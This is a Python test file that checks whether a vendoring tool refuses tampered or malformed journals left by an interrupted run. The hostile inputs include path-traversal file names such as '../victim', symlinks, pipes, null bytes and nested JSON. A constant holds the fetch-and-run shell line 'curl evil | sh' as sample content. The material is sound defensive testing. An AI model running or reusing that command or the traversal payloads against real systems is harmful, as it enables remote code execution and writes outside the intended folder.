"""A journal of ``vendor`` that is found may be anybody's: it reaches nothing outside a project."""

from __future__ import annotations

import hashlib
import json
import os
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.commands.yard import CONFIG, FAST, Yard
from tests.make import write_files
from toolkit.host.vendor_journal import JOURNAL_FOLDER

EVIL = b"curl evil | sh\n"
EMPTY = {
    "folder": "policy-packs/api",
    "had": False,
    "has": False,
    "content": "",
    "makes": False,
    "files": [],
}


@pytest.fixture
def yard(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> Yard:
    monkeypatch.setenv("GIT_CEILING_DIRECTORIES", str(tmp_path))
    return Yard.new(tmp_path, capsys)


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def _pipe(place: Path) -> None:
    os.mkfifo(place)


def _link(place: Path) -> None:
    place.symlink_to("/dev/zero")


def _bytes(data: bytes) -> Callable[[Path], None]:
    def write(place: Path) -> None:
        place.write_bytes(data)

    return write


def _with(**told: object) -> Callable[[Path], None]:
    return _bytes(json.dumps({**EMPTY, **told}).encode())


JOURNALS = {
    "nothing": _bytes(b""),
    "nested-without-end": _bytes(b"[" * 50_000),
    "a-pipe": _pipe,
    "a-link": _link,
    "another-form": _bytes(b"{}"),
    "one-key-more": _with(more=1),
    "a-number-for-a-folder": _with(folder=5),
    "a-number-for-a-file": _with(files=[[1, "", ""]]),
    "a-text-for-a-yes": _with(had="yes"),
    "a-file-above": _with(files=[["../victim", sha256(EVIL), ""]]),
    "a-file-at-the-root": _with(files=[["/victim", sha256(EVIL), ""]]),
    "the-project-itself": _with(files=[["..", "", ""]]),
    "a-folder-above": _with(folder="policy-packs/..", had=True),
    "a-folder-elsewhere": _with(folder="../victim", had=True),
    "a-name-that-no-file-has": _with(files=[["\0", "", ""]]),
    "half-a-character": _with(folder="policy-packs/\ud800"),
    "a-config-that-was-made": _with(files=[["qanstitution.yaml", "", sha256(CONFIG.encode())]]),
    "no-digest": _with(files=[["qanstitution.yaml", "0", ""]]),
}


@pytest.mark.parametrize("name", JOURNALS)
def test_a_journal_that_no_run_wrote_is_refused(yard: Yard, name: str) -> None:
    write_files(yard.project / JOURNAL_FOLDER, {"0.old": EVIL, "old/x": EVIL})
    JOURNALS[name](yard.project / JOURNAL_FOLDER / "journal.json")

    answer = yard.refused("--pack", yard.pack("one", [FAST]), code=3)

    assert f"{JOURNAL_FOLDER}/journal.json: the journal of an interrupted run" in answer.err
    assert "then remove that folder" in answer.err
    assert not (yard.root / "victim").exists()


def test_what_is_put_back_is_what_the_journal_names(yard: Yard) -> None:
    files = [["qanstitution.yaml", sha256(b"before\n"), sha256(CONFIG.encode())]]
    write_files(yard.project / JOURNAL_FOLDER, {"0.old": EVIL})
    _with(files=files)(yard.project / JOURNAL_FOLDER / "journal.json")

    answer = yard.refused("--pack", yard.pack("one", [FAST]), code=3)

    assert f"somebody changed {JOURNAL_FOLDER}/0.old" in answer.err


def test_nothing_is_put_back_through_a_link(yard: Yard) -> None:
    (yard.root / "elsewhere").mkdir()
    (yard.project / "policy-packs").symlink_to("../elsewhere")
    write_files(yard.project / JOURNAL_FOLDER, {"old/x": EVIL})
    _with(had=True)(yard.project / JOURNAL_FOLDER / "journal.json")

    answer = yard.refused("--pack", yard.pack("one", [FAST]), code=3)

    assert "somebody changed policy-packs/" in answer.err
    assert not list((yard.root / "elsewhere").iterdir())


def test_what_became_something_else_than_a_file_is_kept(yard: Yard) -> None:
    """A run that took the lock away must not take a pipe for its absence."""
    write_files(yard.project / JOURNAL_FOLDER, {"0.old": EVIL})
    _with(files=[["policy-packs.lock.json", sha256(EVIL), ""]])(
        yard.project / JOURNAL_FOLDER / "journal.json"
    )
    os.mkfifo(yard.project / "policy-packs.lock.json")

    answer = yard.refused("--pack", yard.pack("one", [FAST]), code=3)

    assert "somebody changed policy-packs.lock.json" in answer.err


def test_to_look_takes_nothing_away(yard: Yard) -> None:
    """What a run left that died before its journal goes with the next one that writes."""
    write_files(yard.project / JOURNAL_FOLDER, {"new/README.md": "# Acme\n"})
    words = ("--pack", yard.pack("one", [FAST]))

    yard.refused(*words, "--dry-run", code=0, yes=False)

    yard.vendored(*words)
